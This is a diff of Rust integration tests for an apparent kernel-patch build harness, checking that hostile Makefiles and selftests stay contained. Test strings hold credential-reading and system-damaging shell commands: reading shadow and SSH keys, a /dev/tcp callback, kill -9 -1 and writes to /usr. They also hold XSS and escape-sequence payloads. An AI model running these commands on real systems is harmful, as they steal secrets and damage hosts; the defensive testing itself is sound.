@@ -202,7 +202,7 @@ fn a_makefile_that_spies_is_contained_and_what_it_left_is_named() {
     let text = format!(
         "spied := $(shell (cat {0} /etc/shadow /root/.ssh/id_* /proc/1/environ; env; \
          exec 3<>/dev/tcp/127.0.0.1/{port}; touch /usr/owned /var/owned; kill -9 -1; mount -t tmpfs x /mnt; \
-         unshare -r true && echo a user namespace) 2>&1 | tr '\\n\\000\\043$$' '    ')\n\
+         unshare -r true && echo namespaces: $$((6 * 7))) 2>&1 | tr '\\n\\000\\043$$' '    ')\n\
          $(warning spy saw: $(spied))\n\
          $(shell ln -sfn {0} $(objtree)/mm/stolen; mkfifo $(objtree)/mm/pipe)\n",
         canary.display()
@@ -216,38 +216,62 @@ fn a_makefile_that_spies_is_contained_and_what_it_left_is_named() {
     for secret in ["canary-on-the-disk", "canary-in-the-environment", "root:*:", "root:$", "PRIVATE KEY"] {
         assert!(!all.contains(secret), "{secret} was seen");
     }
-    assert!(!all.contains("a user namespace"));
+    assert!(!all.contains("namespaces: 42"));
     assert!(listener.accept().is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
     assert!(!Path::new("/usr/owned").exists() && !Path::new("/var/owned").exists());
     // A link out of the folder of the build spoils the build, and is named; it is no verdict on the patch.
     assert!(all.contains("mm/stolen") && all.contains("mm/pipe"), "what it left is named");
-    assert_ne!(report["summary"]["verdict"], "CLEAN");
+    assert_eq!(report["verdict"], "infra");
     assert_ne!(code, 0);
 }
 
-/// Tests that flood, fork, print escape sequences, HTML, forged KTAP and forged frames, and attack the agent.
+/// A series that adds these tests of `hostile/` to the kernel's.
+fn tests_of(folder: &Path, name: &str) -> PathBuf {
+    let path = "tools/testing/selftests/mm/hmm-tests.c";
+    let at = base(path).lines().position(|line| line == "TEST_HARNESS_MAIN").unwrap();
+    let text = std::fs::read_to_string(corpus().join(format!("{name}.c"))).unwrap();
+    series(folder, name, &inserted(path, at, &text))
+}
+
+/// Tests that flood, fork, and print escape sequences, HTML and forged KTAP.
 #[test]
 #[ignore = "boots a real kernel"]
 fn selftests_that_attack_change_no_result_but_their_own() {
     let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
-    let path = "tools/testing/selftests/mm/hmm-tests.c";
-    let at = base(path).lines().position(|line| line == "TEST_HARNESS_MAIN").unwrap();
-    let text = std::fs::read_to_string(corpus().join("selftests.c")).unwrap();
-    let series = series(bench.path(), "selftests", &inserted(path, at, &text));
-    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm"]);
-    assert!(all.contains("attack: the agent was attacked"), "the attack must really have been made");
-    let said = report.to_string();
-    for test in ["attack_flood", "attack_escapes", "attack_ktap", "attack_forks", "attack_agent"] {
-        assert!(said.contains(test), "{test} is missing");
-    }
-    assert!(!said.contains("attack.everything"), "a forged result was believed");
+    let series = tests_of(bench.path(), "selftests");
+    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm", "--no-bench"]);
+    let rows = report["tests"][0]["rows"].as_array().unwrap();
+    let change = |name: &str| {
+        let row = rows.iter().find(|row| row["test"] == format!("hmm.global.{name}"));
+        row.unwrap_or_else(|| panic!("code {code}: {name} is missing"))["change"].as_str().unwrap()
+    };
+    assert_eq!(change("attack_escapes"), "NEW-FAIL");
+    assert_ne!(change("attack_ktap"), "NEW-PASS");
+    assert_ne!(change("attack_forks"), "NEW-PASS");
+    assert!(all.contains("attack_flood"));
+    // The kernel's own tests are as without it.
+    let old = rows.iter().filter(|row| row["change"] == "STILL-PASSING").count();
+    assert_eq!(old, 52, "{rows:#?}");
+    assert!(!report["tests"].to_string().contains("attack.everything"), "a forged result was believed");
     let latest = bench.path().join("results/latest");
     for file in ["report.html", "report.md"] {
         let text = std::fs::read_to_string(latest.join(file)).unwrap();
         assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{file}");
         assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{file}");
     }
-    println!("code {code}: {}", serde_json::to_string_pretty(&report["summary"]).unwrap());
+    assert_eq!(report["verdict"], "findings");
+}
+
+/// A test that replaces the agent's program, signals it, and sends frames in its name.
+#[test]
+#[ignore = "boots a real kernel"]
+fn a_selftest_that_speaks_for_the_agent_is_not_believed() {
+    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
+    let series = tests_of(bench.path(), "agent");
+    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm", "--no-bench"]);
+    assert!(all.contains("frames were lost or forged"), "code {code}: the attack must really have been made");
+    assert_ne!(report["verdict"], "clean");
+    assert_ne!(code, 0);
 }
 
 /// A file of the base of tree linux-6.12, which must have been imported.
